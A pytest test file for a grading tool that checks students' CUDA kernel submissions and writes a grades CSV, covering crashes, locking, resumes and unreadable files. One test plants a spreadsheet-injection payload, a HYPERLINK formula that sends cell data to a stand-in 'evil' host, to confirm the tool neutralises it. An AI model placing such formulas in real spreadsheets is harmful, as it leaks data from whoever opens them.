"""Grades a teacher can trust (issue 46, item 3): the row's hash is that of the bytes checked; a worker that dies
leaves "not checked", never a failing grade, and the next run checks the file again; an earlier CSV is either
read back whole or refused untouched, naming the line; every cell is neutralised on every write; a second run
on the same CSV is refused; unreadable folders and link loops get rows; the exit status says whether every file
has its grade.

The checks are tests/fake_grading.fake_check (the recorded H200 check of the kernel a file names)."""

from __future__ import annotations

import csv
import hashlib
import io
import os
import subprocess
import sys
from pathlib import Path

import pytest

from gemmviz.backends import grading as backend
from gemmviz.backends.grading import grade
from gemmviz.core.exercise.exercises import find_exercise
from gemmviz.core.exercise.grading import GradeError, columns, read_rows, students
from tests.fake_grading import _calls, _kernel, _rows, fake_check, main

ROOT = Path(__file__).resolve().parents[1]
OURS = {"calls.log", "cache", "config"}  # the fake's log, and the test's cache and settings (tests/conftest.py)


@pytest.fixture
def log(tmp_path, monkeypatch):
    path = tmp_path / "calls.log"
    monkeypatch.setenv("GRADE_FAKE_LOG", str(path))  # the spawned workers inherit it
    return path


@pytest.fixture
def tiled():
    return find_exercise("tiled")


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _mark(path: Path, first_line: str) -> None:
    path.write_text(f"{first_line}\n" + path.read_text(encoding="utf-8"), encoding="utf-8")


def test_the_hash_is_that_of_the_bytes_checked_when_a_file_changes_mid_run(tmp_path, log, tiled):
    """b.cu does not pass when the folder is listed, passes when it is checked (swapped after a.cu's row), and is
    swapped back: its row holds the passing file's hash, so the next run sees the change and grades it again."""
    hand_ins = tmp_path / "class"
    _kernel(hand_ins / "a.cu", "tiled_good")
    bad = _kernel(hand_ins / "b.cu", "tiled_or")
    bad_bytes = bad.read_bytes()
    good_bytes = _kernel(tmp_path / "good.cu", "tiled_good").read_bytes()
    out = tmp_path / "grades.csv"

    def swap(done, total, row):
        if row["file"] == "a.cu":
            bad.write_bytes(good_bytes)  # after the listing, before b.cu's check

    grade(hand_ins, tiled, out, jobs=1, checker=fake_check, progress=swap)
    row = {r["file"]: r for r in _rows(out)}["b.cu"]
    assert row["passed"] == "yes" and row["source_sha256"] == hashlib.sha256(good_bytes).hexdigest()
    bad.write_bytes(bad_bytes)  # and back
    log.unlink()
    run = grade(hand_ins, tiled, out, checker=fake_check)
    assert _calls(log) == ["b.cu"] and run.checked == 1
    row = {r["file"]: r for r in _rows(out)}["b.cu"]
    assert row["passed"] == "no" and row["source_sha256"] == hashlib.sha256(bad_bytes).hexdigest()


def test_a_worker_that_dies_leaves_not_checked_and_the_next_run_checks_it(tmp_path, log, tiled):
    hand_ins = tmp_path / "class"
    _kernel(hand_ins / "a.cu", "tiled_good")
    dies = _kernel(hand_ins / "b.cu", "tiled_good")
    _mark(dies, "// die")
    _kernel(hand_ins / "c.cu", "tiled_or")
    out = tmp_path / "grades.csv"
    run = grade(hand_ins, tiled, out, jobs=2, checker=fake_check)
    rows = {r["file"]: r for r in _rows(out)}
    assert list(rows) == ["a.cu", "b.cu", "c.cu"] and run.not_checked == 1
    assert rows["a.cu"]["passed"] == "yes" and rows["c.cu"]["passed"] == "no"  # the others go on
    dead = rows["b.cu"]
    assert dead["passed"] == "not checked" and dead["source_sha256"] == "", dead
    assert "died" in dead["error"] and "SIGKILL" in dead["error"] and dead["correct"] == ""
    _kernel(dies, "tiled_good")  # the same file without its trap (a worker that died for another reason)
    log.unlink()
    run = grade(hand_ins, tiled, out, checker=fake_check)
    assert _calls(log) == ["b.cu"] and (run.checked, run.kept, run.not_checked) == (1, 2, 0)
    assert {r["file"]: r for r in _rows(out)}["b.cu"]["passed"] == "yes"


def test_the_exit_status_says_whether_every_file_has_its_grade(tmp_path, log, monkeypatch, capsys):
    """0 when every file has its row and grade (or the reason it has none); 1 while some row says "not
    checked"; the same command then checks those."""
    hand_ins = tmp_path / "class"
    _kernel(hand_ins / "a.cu", "tiled_good")
    _mark(_kernel(hand_ins / "b.cu", "tiled_good"), "// die")
    (hand_ins / "junk.cu").write_text("not a kernel\n", encoding="utf-8")
    out = tmp_path / "grades.csv"
    real = backend.grade
    monkeypatch.setattr(backend, "grade", lambda *a, **k: real(*a, **{**k, "checker": fake_check}))
    argv = ["exercise", "grade", str(hand_ins), "--exercise", "tiled", "--csv", str(out)]
    assert main(argv) == 1
    assert "1 file(s) not checked" in capsys.readouterr().err
    _kernel(hand_ins / "b.cu", "tiled_good")
    assert main(argv) == 0
    assert [r["passed"] for r in _rows(out)] == ["yes", "yes", "no"]


def _earlier(out: Path, *rows: list[str]) -> bytes:
    text = io.StringIO(newline="")
    writer = csv.writer(text, lineterminator="\r\n")
    writer.writerow(columns())
    writer.writerows(rows)
    out.write_text(text.getvalue(), encoding="utf-8", newline="")
    return out.read_bytes()


def _good_row(name: str, sha: str, **cells: str) -> list[str]:
    row = dict.fromkeys(columns(), "")
    row.update({"file": name, "source_sha256": sha, "exercise": "tiled", "passed": "yes", **cells})
    return [row[c] for c in columns()]


def test_a_row_with_a_teachers_note_is_refused_by_line_and_the_csv_left_untouched(tmp_path, log, tiled, capsys):
    hand_ins = tmp_path / "class"
    a = _kernel(hand_ins / "a.cu", "tiled_good")
    out = tmp_path / "grades.csv"
    note = [*_good_row("b.cu", "0" * 64), "see me after class"]
    before = _earlier(out, _good_row("a.cu", _sha(a)), note)
    stat = out.stat()
    with pytest.raises(GradeError, match=r"line 3: 15 cells where this gemmviz writes 14"):
        grade(hand_ins, tiled, out, checker=fake_check)
    argv = ["exercise", "grade", str(hand_ins), "--exercise", "tiled", "--csv", str(out)]
    assert main(argv) == 2 and "line 3" in capsys.readouterr().err
    assert out.read_bytes() == before and out.stat().st_mtime_ns == stat.st_mtime_ns
    assert sorted(p.name for p in tmp_path.iterdir() if p.name not in OURS) == ["class", "grades.csv"]
    for bad, words in (
        (_good_row("a.cu", _sha(a))[:-1], "13 cells"),
        (_good_row("", "0" * 64), "a row with no file"),
        (_good_row("a.cu", "not a hash"), "source_sha256 is not a SHA-256"),
        (_good_row("a.cu", _sha(a), passed="maybe"), "passed is 'maybe'"),
    ):
        _earlier(out, bad)
        with pytest.raises(GradeError, match=f"line 2: {words}"):
            read_rows(out)
    _earlier(out, _good_row("a.cu", _sha(a)), _good_row("a.cu", _sha(a)))
    with pytest.raises(GradeError, match="line 3: a second row for a.cu"):
        read_rows(out)


def test_resumed_cells_are_neutralised_and_keep_one_row_per_line(tmp_path, log, tiled):
    """An earlier row (a teacher's edit, a planted formula) is written back with its formula neutralised and
    its newlines escaped; the row of a file that is no longer there is kept as it was."""
    hand_ins = tmp_path / "class"
    a = _kernel(hand_ins / "a.cu", "tiled_good")
    _kernel(hand_ins / "b.cu", "tiled_or")
    out = tmp_path / "grades.csv"
    formula = '=HYPERLINK("http://evil/?"&A1,"click")'
    _earlier(
        out,
        _good_row("a.cu", _sha(a), cause=formula, figures="two\nlines", ran_on="@SUM(1)"),
        _good_row("gone.cu", "1" * 64, cause="-2+3", error="tab\there"),
    )
    run = grade(hand_ins, tiled, out, checker=fake_check)
    assert (run.kept, run.checked) == (1, 1)
    text = out.read_bytes().decode("utf-8")
    assert text.count("\r\n") == 4 and "\n" not in text.replace("\r\n", "")  # the header and three rows
    rows = {r["file"]: r for r in _rows(out)}
    assert list(rows) == ["a.cu", "b.cu", "gone.cu"]
    assert rows["a.cu"]["cause"] == "'" + formula and rows["a.cu"]["ran_on"] == "'@SUM(1)"
    assert rows["a.cu"]["figures"] == "two\\nlines"
    assert rows["gone.cu"]["cause"] == "'-2+3" and rows["gone.cu"]["error"] == "tab\\there"
    first = out.read_bytes()
    grade(hand_ins, tiled, out, checker=fake_check)
    assert out.read_bytes() == first  # neutral() is idempotent: a resume of its own CSV changes nothing


def test_a_second_run_on_the_same_csv_is_refused_and_a_stale_lock_taken_over(tmp_path, log, tiled, capsys):
    hand_ins = tmp_path / "class"
    _kernel(hand_ins / "a.cu", "tiled_good")
    out = tmp_path / "grades.csv"
    argv = ["exercise", "grade", str(hand_ins), "--exercise", "tiled", "--csv", str(out)]
    # another gemmviz holds the CSV (its lock taken, as a running grade holds it)
    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import sys; from gemmviz.core.fileio import hold; hold(sys.argv[1]); print('held', flush=True); "
            "sys.stdin.read()",
            str(out),
        ],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
    )
    try:
        assert holder.stdout.readline().strip() == "held"
        assert main(argv) == 1
        assert "another gemmviz is writing it" in capsys.readouterr().err and not out.exists()
    finally:
        holder.kill()
        holder.wait()
    # its holder killed with -9 left its lock file: the next run takes it over
    assert (tmp_path / ".grades.csv.lock").exists()
    assert main(argv) == 0 and [r["file"] for r in _rows(out)] == ["a.cu"]
    assert sorted(p.name for p in tmp_path.iterdir() if p.name not in OURS) == ["class", "grades.csv"]


def test_a_link_loop_and_unreadable_folders_and_files_get_rows(tmp_path, log, tiled, monkeypatch):
    hand_ins = tmp_path / "class"
    _kernel(hand_ins / "a.cu", "tiled_good")
    (hand_ins / "loop1.cu").symlink_to(hand_ins / "loop2.cu")
    (hand_ins / "loop2.cu").symlink_to(hand_ins / "loop1.cu")
    (hand_ins / "dangling.cu").symlink_to(hand_ins / "removed.cu")
    _kernel(hand_ins / "locked" / "x.cu", "tiled_good")
    _kernel(hand_ins / "secret.cu", "tiled_good")
    scandir, opener = os.scandir, os.open

    def refuse_locked(path="."):  # as chmod 000 refuses a user other than root (the tests may run as root)
        if isinstance(path, (str, Path)) and Path(path).name == "locked":
            raise PermissionError(13, "Permission denied", os.fspath(path))
        return scandir(path)

    def refuse_secret(path, *args, **kwargs):
        if isinstance(path, (str, Path)) and Path(path).name == "secret.cu":
            raise PermissionError(13, "Permission denied", os.fspath(path))
        return opener(path, *args, **kwargs)

    monkeypatch.setattr(os, "scandir", refuse_locked)
    monkeypatch.setattr(os, "open", refuse_secret)
    out = tmp_path / "grades.csv"
    run = grade(hand_ins, tiled, out, checker=fake_check)
    rows = {r["file"]: r for r in _rows(out)}
    assert list(rows) == ["a.cu", "dangling.cu", "locked/", "loop1.cu", "loop2.cu", "secret.cu"]
    assert run.found == 6 and rows["a.cu"]["passed"] == "yes"
    assert "cannot read this folder: Permission denied" in rows["locked/"]["error"]
    assert "cannot read it" in rows["secret.cu"]["error"] and "Permission denied" in rows["secret.cu"]["error"]
    for name in ("loop1.cu", "loop2.cu", "dangling.cu"):
        assert "a link that leads nowhere" in rows[name]["error"], rows[name]
    assert all(rows[n]["source_sha256"] == "" for n in rows if n != "a.cu")  # looked at again next run

    def refuse_all(path="."):
        raise PermissionError(13, "Permission denied", os.fspath(path))

    monkeypatch.setattr(os, "scandir", refuse_all)
    with pytest.raises(GradeError, match="cannot list the folder"):
        students(hand_ins)


def test_ran_on_names_what_ran_the_kernel():
    """issue 43 item 3: "no GPU: compiled only" beside passed=yes, although the emulator ran."""
    from gemmviz.core.exercise.grading import ran_on

    assert ran_on({"environment": {"gpu": "NVIDIA H200"}, "emulator": {}}) == "NVIDIA H200"
    nvrtc = {"command": "nvrtc -lineinfo --gpu-architecture=compute_90 a.cu", "arch": "compute_90"}
    assert (
        ran_on({"no_gpu": "no PyCUDA", "emulator": {"shapes": []}, "compile": nvrtc})
        == "CPU emulator, NVRTC compute_90"
    )
    nvcc = {"command": "nvcc -cubin -lineinfo -O3 -arch=sm_90 a.cu", "arch": "sm_90"}
    assert ran_on({"no_gpu": "no PyCUDA", "emulator": {"shapes": []}, "compile": nvcc}) == "CPU emulator, nvcc sm_90"
    assert ran_on({"no_gpu": "no PyCUDA", "compile": nvcc}) == "no GPU: compiled only"  # --no-emulate, or no compile
